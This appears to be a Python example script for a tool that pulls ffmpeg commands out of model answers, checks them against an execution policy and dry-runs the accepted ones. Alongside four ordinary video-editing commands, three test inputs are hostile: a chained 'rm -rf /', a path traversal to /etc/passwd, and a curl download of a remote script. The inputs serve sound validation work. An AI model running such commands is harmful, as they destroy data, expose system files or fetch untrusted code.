"""
Commands are taken out of model answers and checked before they may run. The four answers below hold the rotation,
letterbox, brightness/contrast and logo commands; the last three answers are attempts to escape: a second shell command,
a file outside the work directory and a program that is not allowed. Nothing is executed (dry run).
"""


import tempfile
from pathlib import Path

from miniMPEG.EXAMPLES import comment
from miniMPEG.Executor.Extractor import extract_commands
from miniMPEG.Executor.Policy import ExecutionPolicy, validate
from miniMPEG.Executor.Runner import execute

answers = [
    'Use the transpose filter:\n\n```bash\nffmpeg -i input.mp4 -vf "transpose=cclock" output.mp4\n```\n\n'
    'cclock rotates by 90 degrees counterclockwise.',
    'Scale and pad:\nffmpeg -i input.mp4 -vf "scale=1280:720,pad=1920:1080:(ow-iw)/2:(oh-ih)/2" output.mp4',
    'Run `ffmpeg -i input.mp4 -vf "eq=brightness=-10:contrast=+20" output.mp4` to change both.',
    '```\n$ ffmpeg -i input.mp4 -i logo.png \\\n    -filter_complex "overlay=W-w-10:H-h-10" output.mp4\n```',
    '```\nffmpeg -i a.mp4 out.mp4 && rm -rf /\n```',
    '```\nffmpeg -i ../../etc/passwd out.mp4\n```',
    '```\ncurl http://example.com/script.sh -o script.sh\n```',
]

workdir = Path(tempfile.mkdtemp(prefix='minimpeg-example-'))
policy = ExecutionPolicy(workdir=workdir)
comment(f'Work directory: {workdir}\n')

verdicts = list()
for number, answer in enumerate(answers, start=1):
    comment(f'Answer {number}:', no_delay=True)
    for command in extract_commands(answer):
        checked = validate(command, policy)
        if checked.accepted:
            result = execute(checked, policy, dry_run=True)
            comment(f'   {command.command_line}\n   -> accepted, inputs {list(checked.inputs)}, outputs '
                    f'{list(checked.outputs)}, {result.status.value}')
            verdicts.append('accepted')
        else:
            comment(f'   {command.raw_line}\n   -> rejected: {checked.reason.value} ({checked.detail})')
            verdicts.append(checked.reason.value)
